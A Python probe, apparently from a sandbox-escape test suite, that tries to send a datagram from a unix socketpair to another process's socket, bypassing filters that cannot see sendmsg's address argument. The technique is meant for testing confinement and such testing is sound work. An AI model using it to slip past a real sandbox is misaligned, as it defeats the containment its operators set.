"""Address a datagram from one end of a socket pair to somebody else's socket.

origin: a connected unix datagram socket still honours the address given to sendmsg
why: filters that permit socketpair and sendmsg cannot see the address, which is in memory
control: succeeds
harm: stage
"""

import socket


def attack(target):
    last = nothing("no pair was made")
    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM, socket.SOCK_RAW):
        for address in ("\0" + target["abstract_datagram"], target["unix_datagram"], "\0" + target["abstract"], target["unix"]):
            try:
                ours, _ = socket.socketpair(socket.AF_UNIX, kind)
            except OSError as error:
                last = blocked("socketpair", error)
                continue
            try:
                ours.sendmsg([b"owned"], [], 0, address)
            except OSError as error:
                last = blocked("sendmsg", error)
    return last
